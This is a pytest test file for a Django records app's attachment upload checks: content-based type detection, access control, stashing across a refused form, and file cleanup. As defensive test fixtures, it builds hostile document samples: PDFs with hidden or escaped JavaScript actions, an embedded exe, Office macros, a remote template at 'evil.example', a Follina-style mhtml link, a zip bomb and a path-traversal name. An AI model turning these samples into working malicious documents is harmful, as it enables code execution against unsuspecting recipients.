"""A record's files besides its photos (签到表, 会议记录): checked by content, kept across
a refused form, handed only to those who may see the record, gone with the record."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document
from openpyxl import Workbook

from activities.models import VolunteerActivity
from portal.roles import Role
from records.attachments import attachment_process
from records.models import Attachment
from tests.factories import jpeg_upload, make_record
from tests.records.test_record_pages import volunteer_form

pytestmark = pytest.mark.django_db
URL = reverse("records:create", args=["volunteer"])


def pdf(*objects: bytes) -> bytes:
    """A PDF of `objects` (numbered from 1, the first the catalog) with its xref table."""
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES)
CATALOG_OPENING_3 = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


def pdf_with_hidden_action() -> bytes:
    """A JavaScript action inside a compressed object stream, found by a cross-reference
    stream: no byte of the file spells it out."""
    action = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(action)
    out, offsets = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n")
    for number, body in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
        (2, PAGES),
        (
            3,
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
            + packed
            + b"\nendstream",
        ),
    ):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    rows = [
        (0, 0, 65535),
        (1, offsets[1], 0),
        (1, offsets[2], 0),
        (1, offsets[3], 0),
        (2, 3, 0),
        (1, xref, 0),
    ]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out.write(
        b"5 0 obj\n<< /Type /XRef /Size 6 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode /Length %d >>\n"
        % len(table)
    )
    out.write(b"stream\n" + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def docx_bytes() -> bytes:
    buffer = io.BytesIO()
    document = Document()
    document.add_paragraph("会议记录：主持人张三")
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    buffer = io.BytesIO()
    book = Workbook()
    book.active.append(["姓名", "签到"])
    book.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, content: bytes = b"x", *, replace: dict | None = None) -> bytes:
    """The package `data` with one part added, and parts' texts changed (old → new)."""
    source, buffer = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for part in source.infolist():
            body = source.read(part)
            for old, new in (replace or {}).items():
                body = body.replace(old, new)
            target.writestr(part, body)
        target.writestr(name, content)
    return buffer.getvalue()


def broken_deflate() -> bytes:
    """A .docx whose document part's compressed bytes were damaged in transit."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", bytes(range(256)) * 400)
    data = bytearray(buffer.getvalue())
    start = data.index(b"word/document.xml") + len("word/document.xml")
    data[start + 5 : start + 40] = b"\xff" * 35
    return bytes(data)


def test_a_package_that_links_out_by_a_hyperlink_is_fine():
    link = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/hyperlink" Target="https://www.example.gov.cn" TargetMode="External"/>'
        b"</Relationships>"
    )
    assert (
        attachment_process(
            upload("有链接.docx", with_part(docx_bytes(), "word/_rels/x.rels", link))
        ).extension
        == "docx"
    )


def lying_package() -> bytes:
    """A .docx whose directory says a part unpacks to 1,000 bytes; it unpacks to 5 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", b"\0" * (5 * 1024 * 1024))
    data = bytearray(buffer.getvalue())
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):  # central, then local
        start = data.rindex(signature)
        data[start + offset : start + offset + 4] = struct.pack("<I", 1000)
    return bytes(data)


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


@pytest.mark.parametrize(
    ("name", "data", "extension"),
    [
        ("签到表.pdf", PDF, "pdf"),
        ("会议记录.docx", docx_bytes(), "docx"),
        ("签到.xlsx", xlsx_bytes(), "xlsx"),
        ("签到表照片.jpg", jpeg_upload().read(), "jpg"),
        ("名字不对.txt", PDF, "pdf"),  # the content decides, not the name
        # a scan: its image data happens to hold the bytes of active names, which are no names
        (
            "扫描件.pdf",
            pdf(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                PAGES,
                b"<< /Filter /DCTDecode /Length 4000 >>\nstream\n"
                + b"\xff/JS /Launch (x)" * 250
                + b"\nendstream",
            ),
            "pdf",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) and "." in value else "",
)
def test_the_content_decides_what_a_file_is(name, data, extension):
    processed = attachment_process(upload(name, data))
    assert processed.extension == extension
    assert processed.content.name == f"{name.rsplit('.', 1)[0]}.{extension}"


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        (
            "script.pdf",
            pdf(CATALOG_OPENING_3, PAGES, b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            "含有脚本",
        ),
        ("cut.pdf", PDF[:80], "不是完整的 PDF"),
        ("macro.docm", with_part(docx_bytes(), "word/vbaProject.bin"), "含有宏"),
        ("plain.zip", with_part(xlsx_bytes(), "x")[:30], "已损坏"),
        ("notes.txt", "会议记录".encode(), "不是可接受的附件"),
        ("app.exe", b"MZ\x90\x00" + b"\x00" * 100, "不是可接受的附件"),
        (
            "escaped.pdf",
            pdf(CATALOG_OPENING_3, PAGES, b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "含有脚本",
        ),
        ("hidden.pdf", pdf_with_hidden_action(), "含有脚本"),
        (
            "carrier.pdf",
            pdf(
                b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>",
                PAGES,
                b"<< /Names [(a.exe) 4 0 R] >>",
                b"<< /Type /Filespec /F (a.exe) >>",
            ),
            "嵌入文件",
        ),
        ("submit.pdf", pdf(CATALOG_OPENING_3, PAGES, b"<< /S /SubmitForm /F (http://x.example) >>"), "动作"),
        (
            "renamed.docx",
            with_part(
                docx_bytes(),
                "word/vbaStuff.dat",
                replace={b"wordprocessingml.document.main+xml": b"ms-word.document.macroEnabled.main+xml"},
            ),
            "含有宏",
        ),
        ("xlm.xlsx", with_part(xlsx_bytes(), "xl/macrosheets/sheet2.xml", b"<xm:macrosheet/>"), "含有宏"),
        ("template.docx", with_part(docx_bytes(), "word/_rels/settings.xml.rels", REMOTE_TEMPLATE), "含有宏"),
        ("lying.docx", lying_package(), "已损坏"),
        ("inflate.docx", broken_deflate(), "已损坏"),
        (
            "follina.docx",
            with_part(
                docx_bytes(),
                "word/_rels/webSettings.xml.rels",
                b'<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/oleObject" Target="mhtml:http://x.example/!x" TargetMode="External"/>'
                b"</Relationships>",
            ),
            "含有宏",
        ),
        (
            "package.docx",
            with_part(docx_bytes(), "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
            "含有宏",
        ),
        ("空.pdf", b"", "是空文件"),
    ],
    ids=lambda value: value if isinstance(value, str) and "." in value else "",
)
def test_a_file_that_is_not_a_clean_document_is_refused_saying_why(name, data, reason):
    with pytest.raises(ValidationError) as refused:
        attachment_process(upload(name, data))
    assert reason in refused.value.messages[0] and name in refused.value.messages[0]


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", b"\0" * (201 * 1024 * 1024))
    with pytest.raises(ValidationError, match="解压后过大"):
        attachment_process(upload("bomb.docx", buffer.getvalue()))


def test_a_path_in_the_name_is_dropped():
    processed = attachment_process(upload("C:\\Users\\张三\\..\\签到表.pdf", PDF))
    assert processed.content.name == "签到表.pdf"


def test_a_record_saves_its_attachments_and_a_bad_one_costs_nothing_else(client_as, demo):
    data = volunteer_form(
        sign_in_sheets=[upload("签到表.pdf", PDF)],
        minutes_files=[upload("会议记录.docx", docx_bytes()), upload("bad.docx", b"PK\x03\x04broken")],
    )
    response = client_as(Role.REPORTER).post(URL, data, follow=True)
    record = VolunteerActivity.objects.get()
    kept = list(record.attachments.values_list("sort", "original_name", "content_type"))
    assert kept == [
        (
            "minutes",
            "会议记录.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("sign_in", "签到表.pdf", "application/pdf"),
    ]
    assert "“bad.docx”已损坏" in response.content.decode()
    page = client_as(Role.REPORTER).get(reverse("records:detail", args=[record.pk])).content.decode()
    assert "签到表：" in page and "会议记录.docx" in page


def test_an_attachment_goes_only_to_those_who_may_see_the_record(client_as, demo):
    client_as(Role.REPORTER).post(URL, volunteer_form(sign_in_sheets=[upload("签到表.pdf", PDF)]))
    attachment = Attachment.objects.get()
    url = reverse("records:attachment", args=[attachment.pk])
    response = client_as(Role.REPORTER).get(url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content) == PDF
    assert "inline" in response["Content-Disposition"] and response["Content-Security-Policy"] == "sandbox"
    assert Client().get(url).status_code == 302  # to sign-in
    elsewhere = make_record(unit="柳塘村")
    attachment.record = elsewhere
    attachment.save()
    assert client_as(Role.REPORTER).get(url).status_code == 404  # another village's record
    assert client_as(Role.LEADER).get(url).status_code == 200


def test_attachments_are_kept_across_a_refused_form_and_added_to(client_as):
    client = client_as(Role.REPORTER)
    page = client.post(
        URL, volunteer_form(title="", sign_in_sheets=[upload("签到表.pdf", PDF)])
    ).content.decode()
    assert "“签到表.pdf”已暂存" in page
    ids = re.findall(r'name="stashed_file" value="([0-9a-f]+)"', page)
    client.post(URL, volunteer_form(stashed_file=ids, minutes_files=[upload("会议记录.docx", docx_bytes())]))
    names = sorted(VolunteerActivity.objects.get().attachments.values_list("original_name", flat=True))
    assert names == ["会议记录.docx", "签到表.pdf"]


def test_an_attachment_removed_in_the_form_or_with_its_draft_leaves_no_file(
    client_as, django_capture_on_commit_callbacks
):
    client = client_as(Role.REPORTER)
    client.post(
        URL, volunteer_form(sign_in_sheets=[upload("a.pdf", PDF)], other_files=[upload("b.pdf", PDF)])
    )
    record = VolunteerActivity.objects.get()
    first, second = record.attachments.order_by("original_name")
    assert default_storage.exists(first.file.name)
    edit = client.get(reverse("records:edit", args=[record.pk])).context["form"]
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            reverse("records:edit", args=[record.pk]),
            volunteer_form(version=edit["version"].value(), remove_attachment=[first.pk]),
        )
    assert list(record.attachments.values_list("original_name", flat=True)) == ["b.pdf"]
    assert not default_storage.exists(first.file.name)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("records:delete", args=[record.pk]))
    assert not Attachment.objects.exists() and not default_storage.exists(second.file.name)


def test_an_approved_sessions_missing_sheet_and_photos_are_added_without_reopening_it(client_as, town):
    from datetime import date

    from inspection.gaps import completeness

    session = make_record(
        "study",
        unit="青溪镇",
        on=date(2025, 3, 10),
        study_type="central_group",
        participants=10,
        expected_attendance=10,
        host="书记",
        discussion_points="张三：谈体会\n李四：谈做法",
    )
    assert "签到表" in " ".join(gap.message for entry in completeness(town, 2025).units for gap in entry.gaps)
    url = reverse("records:attachments_add", args=[session.pk])
    response = client_as(Role.REVIEWER).post(
        url,
        {"more-sign_in_sheets": [upload("签到表.pdf", PDF)], "more-photos": [jpeg_upload("现场.jpg")]},
        follow=True,
    )
    assert "已补充 2 个文件" in response.content.decode()
    session.refresh_from_db()
    assert (session.status, session.photos.count(), session.attachments.get().sort) == (
        "approved",
        1,
        "sign_in",
    )
    messages = [gap.message for entry in completeness(town, 2025).units for gap in entry.gaps]
    assert not any("03-10" in message for message in messages)
    history = client_as(Role.REVIEWER).get(reverse("records:detail", args=[session.pk])).content.decode()
    assert "附件：— → 签到表.pdf" in history


def test_files_cannot_be_added_to_a_void_record_or_another_units(client_as):
    void = make_record("event", status="void")
    elsewhere = make_record("event", unit="柳塘村")
    data = {"more-sign_in_sheets": [upload("签到表.pdf", PDF)]}
    client = client_as(Role.REPORTER)
    response = client.post(reverse("records:attachments_add", args=[void.pk]), data, follow=True)
    assert "作废的记录不能再补充附件" in response.content.decode()
    assert client.post(reverse("records:attachments_add", args=[elsewhere.pk]), data).status_code == 404
    assert not Attachment.objects.exists()
